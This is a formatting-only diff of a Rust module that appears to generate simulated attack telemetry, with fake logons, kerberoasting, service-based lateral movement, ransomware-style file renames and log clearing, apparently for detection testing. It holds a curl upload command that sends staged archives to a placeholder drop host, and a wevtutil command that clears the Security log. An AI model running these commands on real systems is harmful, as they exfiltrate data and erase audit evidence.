@@ -8,7 +8,12 @@ use super::super::windows::{sysmon, system};
 use super::order::AttackType;
 use super::{Attack, Stage};
 
-const GUESSED: [&[u8]; 4] = [b"root", b"invalid user admin", b"invalid user test", b"root"];
+const GUESSED: [&[u8]; 4] = [
+    b"root",
+    b"invalid user admin",
+    b"invalid user test",
+    b"root",
+];
 /// RC4, which can be broken offline.
 const WEAK_ENCRYPTION: u64 = 0x17;
 
@@ -27,7 +32,12 @@ impl Attack {
             AttackType::Exfiltration => self.send_out(step, stage),
             AttackType::LogClearing => self.clear_logs(step, stage),
         }
-        let Stage { world, event, out, envelope } = stage;
+        let Stage {
+            world,
+            event,
+            out,
+            envelope,
+        } = stage;
         self.kind.write_windows(out, world, event, *envelope);
     }
 
@@ -47,7 +57,14 @@ impl Attack {
         } else {
             (self.user, Outcome::Success)
         };
-        security::logon(stage.event, stage.world, self.host, user, &self.address, outcome);
+        security::logon(
+            stage.event,
+            stage.world,
+            self.host,
+            user,
+            &self.address,
+            outcome,
+        );
     }
 
     fn roast(&mut self, step: u32, stage: &mut Stage<'_>) {
@@ -69,7 +86,14 @@ impl Attack {
             0 => {
                 let from = self.host_of((step / 3).wrapping_sub(1));
                 let from = stage.world.fleet.host(from).address.clone();
-                security::logon(stage.event, stage.world, host, self.user, &from, Outcome::Success);
+                security::logon(
+                    stage.event,
+                    stage.world,
+                    host,
+                    self.user,
+                    &from,
+                    Outcome::Success,
+                );
             }
             1 => {
                 let service: (&[u8], &[u8]) = (b"TMPSVC", b"%SystemRoot%\\tmpsvc.exe");
@@ -104,7 +128,8 @@ impl Attack {
             return self.run(self.host, *call, stage);
         }
         self.text.clear();
-        self.text.extend_from_slice(b"D:\\shares\\projects\\document-");
+        self.text
+            .extend_from_slice(b"D:\\shares\\projects\\document-");
         text::decimal(&mut self.text, step.into());
         self.text.extend_from_slice(b".psheet.tidelocked");
         let file = Some(&*self.text);
@@ -125,7 +150,11 @@ impl Attack {
             command.extend_from_slice(b"curl.exe -s -T C:\\ProgramData\\stage\\all.part");
             text::decimal(&mut command, u64::from(step / 2 + 1));
             command.extend_from_slice(b".rar https://drop.pebble-share.example/in/");
-            self.run(self.host, (b"C:\\Windows\\System32\\curl.exe", &command), stage);
+            self.run(
+                self.host,
+                (b"C:\\Windows\\System32\\curl.exe", &command),
+                stage,
+            );
             self.text = command;
             return;
         }
@@ -137,8 +166,10 @@ impl Attack {
         let host = self.host_of(step / 3) % stage.world.fleet.host_count();
         match step % 3 {
             0 => {
-                let call: (&[u8], &[u8]) =
-                    (b"C:\\Windows\\System32\\wevtutil.exe", b"wevtutil.exe cl Security");
+                let call: (&[u8], &[u8]) = (
+                    b"C:\\Windows\\System32\\wevtutil.exe",
+                    b"wevtutil.exe cl Security",
+                );
                 self.run(host, call, stage);
             }
             1 => security::log_cleared(stage.event, stage.world, host, self.user),
